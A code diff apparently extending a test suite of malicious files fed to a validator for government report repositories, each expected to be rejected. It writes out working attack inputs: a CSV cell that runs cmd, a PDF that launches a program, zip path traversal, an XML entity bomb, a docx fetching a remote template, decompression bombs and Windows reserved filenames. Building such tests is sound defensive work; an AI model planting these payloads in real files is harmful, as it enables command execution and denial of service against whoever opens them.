@@ -7,15 +7,19 @@ checked, typeset and described like any other report.
 from __future__ import annotations
 
 import os
+import random
 import struct
 import zlib
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass
+from io import BytesIO
 from pathlib import Path
+from zipfile import ZIP_DEFLATED, ZipFile
 
+from PIL import Image
 from reading import FRONT_2021
 
-__all__ = ["ATTACKS", "ORGANS", "Attack", "report"]
+__all__ = ["ATTACKS", "ORGANS", "Attack", "report", "sixteen_bit_png"]
 
 ORGANS = """shili:
   name: 示例县人民政府
@@ -156,6 +160,26 @@ def _shows_said(words: str, *refused: str) -> Attack:
     return Attack(write, frozenset(refused))
 
 
+def _attaches(name: str, content: Callable[[], bytes], *refused: str) -> Attack:
+    """A report that links to a file."""
+
+    def write(folder: Path) -> None:
+        (folder / name).write_bytes(content())
+        (folder / "2021.md").write_text(report(f"[附件]({name})"), "utf-8", newline="\n")
+
+    return Attack(write, frozenset(refused))
+
+
+def _lies(name: str, content: bytes, refused: str = "path-hidden") -> Attack:
+    """A file beside a report that does not name it."""
+
+    def write(folder: Path) -> None:
+        (folder / name).write_bytes(content)
+        (folder / "2021.md").write_text(report(), "utf-8", newline="\n")
+
+    return Attack(write, frozenset({refused}))
+
+
 def _is(make: Callable[[Path], None], name: str, *refused: str) -> Attack:
     """Something that is no file, in the place of one."""
 
@@ -164,6 +188,18 @@ def _is(make: Callable[[Path], None], name: str, *refused: str) -> Attack:
         path = folder / name
         path.unlink(missing_ok=True)
         make(path)
+
+    return Attack(write, frozenset(refused))
+
+
+def _shows_three(content: bytes, *refused: str) -> Attack:
+    """A report that shows three pictures which differ by what stands behind their end."""
+
+    def write(folder: Path) -> None:
+        for number in range(3):
+            (folder / f"{number}.png").write_bytes(content + bytes([number]))
+        prose = "\n\n".join(f"![图]({number}.png)" for number in range(3))
+        (folder / "2021.md").write_text(report(prose), "utf-8", newline="\n")
 
     return Attack(write, frozenset(refused))
 
@@ -226,6 +262,45 @@ def _flat_png(side: int) -> bytes:
     )
 
 
+def sixteen_bit_png(side: int) -> bytes:
+    """A picture whose pixels take eight bytes each: 16 bits of three colours and transparency."""
+    head = struct.pack(">IIBBBBB", side, side, 16, 6, 0, 0, 0)
+    data = zlib.compress(bytes(side * 8 + 1) * side, 9)
+    return (
+        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
+    )
+
+
+def _zip(*entries: tuple[str, bytes]) -> bytes:
+    file = BytesIO()
+    with ZipFile(file, "w", ZIP_DEFLATED) as bundle:
+        for name, content in entries:
+            bundle.writestr(name, content)
+    return file.getvalue()
+
+
+def _zip_of_many(entries: int) -> bytes:
+    """Entries of no name and nothing in them, in a list that is read at once."""
+    entry = b"PK\x01\x02" + bytes(42)
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 9, 9, entries * len(entry), 0, 0)
+    return entry * entries + end
+
+
+def _docx(*parts: tuple[str, bytes]) -> bytes:
+    return _zip(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<d/>"), *parts)
+
+
+def _relation(kind: str, target: str) -> tuple[str, bytes]:
+    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
+    written = f'<R><R Type="{kind}" Target="{target}" TargetMode="External"/></R>'
+    return "word/_rels/document.xml.rels", written.encode()
+
+
+def _pdf(root: bytes, more: bytes = b"") -> bytes:
+    """A PDF without a table of its objects, as far as it has any."""
+    return b"%PDF-1.4\n1 0 obj\n<</Type/Catalog" + root + b">>\nendobj\n" + more + _PDF_END
+
+
 def _chunk(kind: bytes, data: bytes) -> bytes:
     return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
@@ -236,7 +311,22 @@ def _webp(side: int) -> bytes:
     return b"RIFF" + struct.pack("<I", 4 + len(canvas)) + b"WEBP" + canvas
 
 
+def _jpeg(mode: str, side: int) -> bytes:
+    file = BytesIO()
+    Image.new(mode, (side, side)).save(file, "JPEG")
+    return file.getvalue()
+
+
+_PDF_END = b"trailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
+_LAUNCH = b"/OpenAction<</S/Launch/F(calc.exe)>>"
 _ICC = _chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(60_000_000), 9))
+_BOMB = (
+    b"<!DOCTYPE a ["
+    + b"".join(
+        b'<!ENTITY a%d "%s">' % (n, (b"&a%d;" % (n - 1)) * 10 if n else b"ha") for n in range(30)
+    )
+    + b"]><a>&a29;</a>"
+)
 _SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
 _A_LEAST = "附件、图片" * 40
 
@@ -330,9 +420,61 @@ ATTACKS: Mapping[str, Attack] = {
     "a PNG with a bomb of colours": _shows("图.png", _png(3, _ICC), "image-broken"),
     "a WebP of 16,384 squared": _shows("图.webp", _webp(16_384), "attachment-size"),
     "a picture nearly as large as may be": _shows("图.png", _flat_png(7000)),
+    "a PNG of 16 bits and as many pixels": _shows(
+        "图.png", sixteen_bit_png(6300), "attachment-size"
+    ),
+    "three PNGs of 16 bits, as large as may be": _shows_three(
+        sixteen_bit_png(4700), "attachment-size"
+    ),
+    "three PNGs of 16 bits": _shows_three(sixteen_bit_png(3500)),
+    "a JPEG for printers": _shows("图.jpg", _jpeg("CMYK", 40), "image-broken"),
+    "a photograph": _shows("图.jpg", _jpeg("RGB", 7000)),
     "a picture that is another kind": _shows("图.jpg", _png(3), "image-broken"),
     "a drawing with a script": _shows("图.svg", _SVG, "attachment-kind"),
     "a picture of nothing": _shows("图.png", b"", "image-broken"),
+    # What acts on whoever opens an attachment, or on what looks into it.
+    "a ZIP that Windows unpacks elsewhere": _attaches(
+        "附件.zip", lambda: _zip(("..\\..\\a.txt", b"")), "attachment-content"
+    ),
+    "a ZIP with a spreadsheet's command": _attaches(
+        "附件.zip", lambda: _zip(("a.csv", b"=cmd|' /C calc'!A0")), "attachment-content"
+    ),
+    "a ZIP of 400,000 entries": _attaches(
+        "附件.zip", lambda: _zip_of_many(400_000), "attachment-content"
+    ),
+    "a ZIP of 100 MB": _attaches(
+        "附件.zip",
+        lambda: _zip(
+            *((f"{n}.txt", b"1234567890\n" * 900_000) for n in range(10)),
+            ("图.png", _flat_png(20) + random.Random(1).randbytes(600_000)),
+        ),
+    ),
+    "a document that fetches its template": _attaches(
+        "附件.docx",
+        lambda: _docx(_relation("attachedTemplate", "https://a.cn/a.dotm")),
+        "attachment-content",
+    ),
+    "a document with a bomb of entities": _attaches(
+        "附件.docx", lambda: _docx(("a.rels", _BOMB)), "attachment-content"
+    ),
+    "a table of 10,000,000 cells": _attaches("附件.csv", lambda: (b"-," * 65_000 + b"\r\n") * 150),
+    "a table of 10,000,000 rows": _attaches(
+        "附件.csv", lambda: b"-\n" * 10_000_000, "attachment-content"
+    ),
+    "a PDF that starts a program": _attaches(
+        "附件.pdf", lambda: _pdf(_LAUNCH), "attachment-content"
+    ),
+    "a PDF in a circle": _attaches("附件.pdf", lambda: _pdf(b"/A 1 0 R/Pages 1 0 R/Kids[1 0 R]")),
+    "a PDF of 3,000,000 brackets": _attaches("附件.pdf", lambda: _pdf(b"/A" + b"[" * 3_000_000)),
+    "a PDF of 2,500,000 beginnings": _attaches(
+        "附件.pdf", lambda: _pdf(b"", b"1 0 obj\n" * 2_500_000)
+    ),
+    # What changed or broke the clones of others.
+    "attributes of git": _lies(".gitattributes", b"*.md working-tree-encoding=UTF-16LE-BOM\n"),
+    "a list of what git ignores": _lies(".gitignore", b"*\n"),
+    "a file that Windows cannot store": _lies("a:b", b"", "path-name"),
+    "a device of Windows": _lies("aux.txt", b"", "path-name"),
+    "a twin of the report": _lies("2021.MD", b"", "path-name"),
     # What was slow.
     "brackets of 10 KB": _says("\n".join(["[" * 4000] * 3), "over-limit"),
     "20,000 links that never close": _says("\n".join(["[x](" * 1000] * 20), "over-limit"),
